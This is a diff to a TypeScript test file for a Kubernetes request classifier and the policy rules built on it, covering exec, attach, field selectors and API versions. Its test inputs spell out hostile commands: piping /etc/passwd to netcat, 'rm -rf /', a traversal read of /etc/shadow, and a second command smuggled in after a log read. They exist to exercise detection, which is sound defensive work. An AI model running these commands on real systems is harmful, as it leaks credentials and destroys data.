@@ -1,6 +1,10 @@
-import { describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import type { Action, KubeRequest } from '../types.js';
 import { classifyKubeRequest } from './kubernetes.js';
+import { loadShellClassifier } from './shell.js';
+import { evaluate } from '../policy/evaluate.js';
+import { lintPolicy } from '../policy/lint-policy.js';
+import { parsePolicy } from '../policy/load-policy.js';
 
 type Headers = NonNullable<KubeRequest['headers']>;
 type Case = readonly [method: string, path: string, expected: readonly string[], headers?: Headers];
@@ -69,7 +73,7 @@ const verbs: readonly Case[] = [
   [
     'GET',
     '/api/v1/namespaces/prod/pods?labelSelector=app%3Dweb&fieldSelector=metadata.name%3Dweb',
-    ['list namespaces/prod/pods'],
+    ['list namespaces/prod/pods/web'],
   ],
   ['POST', '/api/v1/namespaces/prod/pods?dryRun=All', ['create namespaces/prod/pods']],
   ['get', '/api/v1/pods/', ['list pods']],
@@ -80,9 +84,13 @@ const subresources: readonly Case[] = [
   [
     'GET',
     '/api/v1/namespaces/prod/pods/web-1/exec?command=sh&stdin=true&tty=true',
-    ['exec namespaces/prod/pods/web-1/exec'],
+    ['exec namespaces/prod/pods/web-1/exec', 'command sh', 'shell namespaces/prod/pods/web-1'],
   ],
-  ['POST', '/api/v1/namespaces/prod/pods/web-1/exec?command=ls', ['exec namespaces/prod/pods/web-1/exec']],
+  [
+    'POST',
+    '/api/v1/namespaces/prod/pods/web-1/exec?command=ls',
+    ['exec namespaces/prod/pods/web-1/exec', 'command ls'],
+  ],
   ['GET', '/api/v1/namespaces/prod/pods/web-1/attach?stdout=1', ['attach namespaces/prod/pods/web-1/attach']],
   [
     'POST',
@@ -102,7 +110,7 @@ const subresources: readonly Case[] = [
   ['GET', '/api/v1/nodes/n1/proxy/metrics', ['proxy nodes/n1/proxy']],
   ['GET', '/api/v1/proxy/nodes/n1/metrics', ['proxy nodes/n1/proxy']],
   ['GET', '/api/v1/proxy/namespaces/prod/pods/web/x/y', ['proxy namespaces/prod/pods/web/proxy']],
-  ['GET', '/api/v1/watch/namespaces/prod/pods/web/exec', ['exec namespaces/prod/pods/web/exec']],
+  ['GET', '/api/v1/watch/namespaces/prod/pods/web/exec', ['exec namespaces/prod/pods/web/exec', 'unknown']],
 ];
 
 const nonResource: readonly Case[] = [
@@ -157,7 +165,12 @@ const impersonation: readonly Case[] = [
   [
     'GET',
     '/api/v1/namespaces/prod/pods/web/exec?command=sh',
-    ['exec namespaces/prod/pods/web/exec', 'impersonate users/system:serviceaccount:kube-system:admin'],
+    [
+      'exec namespaces/prod/pods/web/exec',
+      'command sh',
+      'unknown',
+      'impersonate users/system:serviceaccount:kube-system:admin',
+    ],
     { 'impersonate-user': 'system:serviceaccount:kube-system:admin' },
   ],
 ];
@@ -176,7 +189,7 @@ const unresolvable: readonly Case[] = [
   ['GET', '/api/v1/namespaces/prod/pods/web/exec/x', ['unknown']],
   ['GET', '/api/v1/watch', ['unknown']],
   ['GET', '/api/v1/proxy/nodes', ['unknown']],
-  ['GET', '/api/foo/pods', ['unknown']],
+  ['GET', '/api/Foo/pods', ['unknown']],
   ['GET', '/apis/Apps/v1/deployments', ['unknown']],
   ['OPTIONS', '/api/v1/pods', ['unknown']],
   ['CONNECT', '/api/v1/namespaces/prod/pods/web/exec', ['unknown']],
@@ -233,8 +246,16 @@ const evasions: readonly Case[] = [
     ['update certificatesigningrequests.certificates.k8s.io/c1/approval'],
   ],
   // Path spellings the API server resolves to the same object.
-  ['GET', '/api/v1/namespaces/prod/pods/web/exec/', ['exec namespaces/prod/pods/web/exec']],
-  ['GET', '/api/v1/namespaces/prod/pods/web/%65xec', ['exec namespaces/prod/pods/web/exec']],
+  [
+    'GET',
+    '/api/v1/namespaces/prod/pods/web/exec/?command=ls',
+    ['exec namespaces/prod/pods/web/exec', 'command ls'],
+  ],
+  [
+    'GET',
+    '/api/v1/namespaces/prod/pods/web/%65xec?command=ls',
+    ['exec namespaces/prod/pods/web/exec', 'command ls'],
+  ],
   ['GET', '/api/v1/namespaces/prod/pods?watch=1&watch=false', ['watch namespaces/prod/pods']],
   ['GET', '/apis/apps/v1beta1/namespaces/prod/deployments/web', ['get namespaces/prod/deployments.apps/web']],
   [
@@ -254,8 +275,116 @@ const evasions: readonly Case[] = [
   ['GET', '/api/v1/pods', ['list pods', 'impersonate users/x'], { ' Impersonate-User ': 'x' }],
 ];
 
+/** API versions are DNS-1035 labels: custom resources use `stable`, `v2alpha1`, `foo1`. */
+const versions: readonly Case[] = [
+  [
+    'GET',
+    '/apis/stable.example.com/stable/namespaces/prod/crontabs/c',
+    ['get namespaces/prod/crontabs.stable.example.com/c'],
+  ],
+  ['GET', '/apis/example.com/v2alpha1/widgets', ['list widgets.example.com']],
+  ['POST', '/apis/example.com/foo1/namespaces/prod/widgets', ['create namespaces/prod/widgets.example.com']],
+  ['GET', '/apis/example.com/v1-rc/widgets/w', ['get widgets.example.com/w']],
+  ['GET', '/api/foo/pods', ['list pods']],
+  ['GET', '/apis/example.com/1v/widgets', ['unknown']],
+  ['GET', '/apis/example.com/V1/widgets', ['unknown']],
+  ['GET', '/apis/example.com/v1-/widgets', ['unknown']],
+  ['GET', '/apis/example.com/v1.0/widgets', ['unknown']],
+  ['GET', '/apis/example.com/v_1/widgets', ['unknown']],
+  ['GET', `/apis/example.com/v${'1'.repeat(63)}/widgets`, ['unknown']],
+  ['GET', `/apis/example.com/v${'1'.repeat(62)}/widgets`, ['list widgets.example.com']],
+];
+
+/** `fieldSelector=metadata.name=NAME` on a list or watch names the object, as the API server reads it. */
+const fieldSelectors: readonly Case[] = [
+  [
+    'GET',
+    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Dweb',
+    ['list namespaces/prod/pods/web'],
+  ],
+  [
+    'GET',
+    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3D%3Dweb&watch=true',
+    ['watch namespaces/prod/pods/web'],
+  ],
+  [
+    'GET',
+    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name=web&resourceVersion=1&watch=1',
+    ['watch namespaces/prod/pods/web'],
+  ],
+  [
+    'GET',
+    '/apis/apps/v1/namespaces/prod/deployments?fieldSelector=metadata.name%3Dweb',
+    ['list namespaces/prod/deployments.apps/web'],
+  ],
+  ['GET', '/api/v1/nodes?fieldSelector=metadata.name%3Dn1%2C', ['list nodes/n1']],
+  [
+    'HEAD',
+    '/api/v1/namespaces/prod/secrets?fieldSelector=metadata.name%3Ddb',
+    ['list namespaces/prod/secrets/db'],
+  ],
+  // Anything else in the selector keeps it a request for the collection.
+  [
+    'GET',
+    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Dweb%2Cstatus.phase%3DRunning',
+    ['list namespaces/prod/pods'],
+  ],
+  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%21%3Dweb', ['list namespaces/prod/pods']],
+  [
+    'GET',
+    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.namespace%3Dprod',
+    ['list namespaces/prod/pods'],
+  ],
+  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3D', ['list namespaces/prod/pods']],
+  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3D..', ['list namespaces/prod/pods']],
+  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Da%2Fb', ['list namespaces/prod/pods']],
+  [
+    'GET',
+    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Da%5C%2Cb',
+    ['list namespaces/prod/pods/a,b'],
+  ],
+  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Da%3Db', ['list namespaces/prod/pods']],
+  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=+metadata.name%3Dweb', ['list namespaces/prod/pods']],
+  [
+    'GET',
+    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Dweb&fieldSelector=metadata.name%3Ddb',
+    ['list namespaces/prod/pods'],
+  ],
+  // Only a list or a watch: a named get, a deletecollection and the /watch/ path keep their reading.
+  [
+    'DELETE',
+    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Dweb',
+    ['deletecollection namespaces/prod/pods'],
+  ],
+  [
+    'GET',
+    '/api/v1/namespaces/prod/pods/db?fieldSelector=metadata.name%3Dweb',
+    ['get namespaces/prod/pods/db'],
+  ],
+  [
+    'GET',
+    '/api/v1/watch/namespaces/prod/pods?fieldSelector=metadata.name%3Dweb',
+    ['watch namespaces/prod/pods'],
+  ],
+];
+
+// exec/attach read their argv with the shell classifier.
+beforeAll(async () => {
+  await loadShellClassifier();
+});
+
 describe('classifyKubeRequest', () => {
-  const groups = { resources, verbs, subresources, nonResource, impersonation, unresolvable, evasions };
+  const groups = {
+    resources,
+    verbs,
+    subresources,
+    nonResource,
+    impersonation,
+    unresolvable,
+    evasions,
+    versions,
+    fieldSelectors,
+  };
   for (const [group, cases] of Object.entries(groups)) {
     describe(group, () => {
       for (const [method, path, expected, headers] of cases) {
@@ -309,5 +438,179 @@ describe('classifyKubeRequest', () => {
     for (const request of bad) {
       expect(classifyKubeRequest(request as unknown as KubeRequest)).toContainEqual({ operation: 'unknown' });
     }
+  });
+});
+
+describe('classifyKubeRequest exec and attach', () => {
+  const exec = '/api/v1/namespaces/prod/pods/web-1/exec';
+  const cases: readonly Case[] = [
+    [
+      'POST',
+      `${exec}?command=cat&command=%2Fvar%2Flog%2Fapp.log&container=app&stdout=true&stderr=true`,
+      ['exec namespaces/prod/pods/web-1/exec', 'command cat /var/log/app.log'],
+    ],
+    [
+      'GET',
+      `${exec}?command=sh&stdin=true&stdout=true&tty=true`,
+      ['exec namespaces/prod/pods/web-1/exec', 'command sh', 'shell namespaces/prod/pods/web-1'],
+    ],
+    [
+      'GET',
+      `${exec}?command=%2Fbin%2Fsh&command=-c&command=cat+%2Fetc%2Fpasswd+%7C+nc+x+1&stdout=1`,
+      [
+        'exec namespaces/prod/pods/web-1/exec',
+        'command /bin/sh -c cat /etc/passwd | nc x 1',
+        'command sh -c cat /etc/passwd | nc x 1',
+        'command cat /etc/passwd',
+        'command nc x 1',
+      ],
+    ],
+    [
+      'POST',
+      `${exec}?command=bash&command=-c&command=echo+x+%3E+%2Fetc%2Fmotd`,
+      [
+        'exec namespaces/prod/pods/web-1/exec',
+        'command bash -c echo x > /etc/motd',
+        'write /etc/motd',
+        'command echo x',
+      ],
+    ],
+    [
+      'POST',
+      `${exec}?command=sh&command=-c&command=%24X`,
+      ['exec namespaces/prod/pods/web-1/exec', 'command sh -c $X', 'unknown'],
+    ],
+    // The runtime starts argv directly: nothing in it is shell syntax.
+    [
+      'POST',
+      `${exec}?command=echo&command=%24%28rm+-rf+%2F%29&command=%3B+reboot`,
+      ['exec namespaces/prod/pods/web-1/exec', 'command echo $(rm -rf /) ; reboot'],
+    ],
+    ['POST', `${exec}?command=it%27s`, ['exec namespaces/prod/pods/web-1/exec', "command it's"]],
+    ['POST', `${exec}?stdout=true`, ['exec namespaces/prod/pods/web-1/exec', 'unknown']],
+    ['POST', `${exec}?command=ls&stdin=0&tty=false`, ['exec namespaces/prod/pods/web-1/exec', 'command ls']],
+    [
+      'POST',
+      `${exec}?command=ls&stdin=false&stdin=true`,
+      ['exec namespaces/prod/pods/web-1/exec', 'command ls', 'shell namespaces/prod/pods/web-1'],
+    ],
+    [
+      'POST',
+      `${exec}?command=ls&tty=`,
+      ['exec namespaces/prod/pods/web-1/exec', 'command ls', 'shell namespaces/prod/pods/web-1'],
+    ],
+    [
+      'POST',
+      `${exec}?Command=rm&command=ls`,
+      ['exec namespaces/prod/pods/web-1/exec', 'unknown', 'command ls'],
+    ],
+    // With stdin attached, a program reading its script from stdin is the interactive session.
+    [
+      'POST',
+      `${exec}?command=python3&stdin=true`,
+      ['exec namespaces/prod/pods/web-1/exec', 'command python3', 'shell namespaces/prod/pods/web-1'],
+    ],
+    [
+      'POST',
+      `${exec}?command=python3`,
+      ['exec namespaces/prod/pods/web-1/exec', 'command python3', 'unknown'],
+    ],
+    [
+      'POST',
+      `${exec}?command=python3&command=-c&command=import+os&stdin=true`,
+      [
+        'exec namespaces/prod/pods/web-1/exec',
+        'command python3 -c import os',
+        'unknown',
+        'shell namespaces/prod/pods/web-1',
+      ],
+    ],
+    [
+      'POST',
+      `${exec}?command=sh&command=-c&command=%24X&tty=true`,
+      [
+        'exec namespaces/prod/pods/web-1/exec',
+        'command sh -c $X',
+        'unknown',
+        'shell namespaces/prod/pods/web-1',
+      ],
+    ],
+    [
+      'POST',
+      `${exec}?command=env&command=A%3D1&command=sh&command=-c&command=rm+-rf+%2Fdata`,
+      [
+        'exec namespaces/prod/pods/web-1/exec',
+        'command env A=1 sh -c rm -rf /data',
+        'command sh -c rm -rf /data',
+        'command rm -rf /data',
+      ],
+    ],
+    [
+      'GET',
+      '/api/v1/namespaces/prod/pods/web-1/attach?container=app&stdin=true&stdout=true&tty=true',
+      ['attach namespaces/prod/pods/web-1/attach', 'shell namespaces/prod/pods/web-1'],
+    ],
+    [
+      'POST',
+      '/api/v1/namespaces/prod/pods/web-1/attach?stdout=true&command=rm',
+      ['attach namespaces/prod/pods/web-1/attach'],
+    ],
+    [
+      'GET',
+      `${exec}?command=sh&stdin=true`,
+      [
+        'exec namespaces/prod/pods/web-1/exec',
+        'command sh',
+        'shell namespaces/prod/pods/web-1',
+        'impersonate users/admin',
+      ],
+      { 'Impersonate-User': 'admin' },
+    ],
+  ];
+  for (const [method, path, expected, headers] of cases) {
+    it(`${method} ${path}`, () => {
+      const request: KubeRequest = {
+        type: 'kube',
+        method,
+        path,
+        ...(headers === undefined ? {} : { headers }),
+      };
+      expect(classifyKubeRequest(request)).toEqual(actions(expected));
+    });
+  }
+});
+
+describe('a policy over exec commands and interactive shells (docs/classification.md)', () => {
+  const policy = parsePolicy(`version: 1
+targets:
+  prod-cluster: { protocol: kubernetes }
+rules:
+  - id: read-logs-in-pods
+    effect: allow
+    when: { targets: [prod-cluster], operations: [exec, command], resources: ["namespaces/prod/pods/*/exec", "cat /var/log/*", sh] }
+  - id: interactive-needs-review
+    effect: review
+    when: { targets: [prod-cluster], operations: [shell] }
+    review: { approvers: { groups: [sre-leads] } }
+`);
+  const decide = (path: string): string =>
+    evaluate(policy, {
+      principal: { subject: 'bob', groups: ['sre'], kind: 'human' },
+      target: 'prod-cluster',
+      actions: classifyKubeRequest({ type: 'kube', method: 'POST', path }),
+    }).effect;
+  const exec = '/api/v1/namespaces/prod/pods/web-1/exec';
+
+  it('allows reading a log, reviews an interactive shell, denies anything else', () => {
+    expect(decide(`${exec}?command=cat&command=%2Fvar%2Flog%2Fapp.log&stdout=true`)).toBe('allow');
+    expect(decide(`${exec}?command=sh&stdin=true&tty=true&stdout=true`)).toBe('review');
+    expect(decide(`${exec}?command=sh&stdout=true`)).toBe('deny');
+    expect(decide(`${exec}?command=cat&command=%2Fetc%2Fshadow&stdout=true`)).toBe('deny');
+    expect(decide(`${exec}?command=cat&command=%2Fvar%2Flog%2F..%2F..%2Fetc%2Fshadow`)).toBe('deny');
+    expect(decide(`${exec}?command=sh&command=-c&command=cat+%2Fvar%2Flog%2Fa%3Brm+-rf+%2F`)).toBe('deny');
+  });
+
+  it('lints clean', () => {
+    expect(lintPolicy(policy)).toEqual([]);
   });
 });
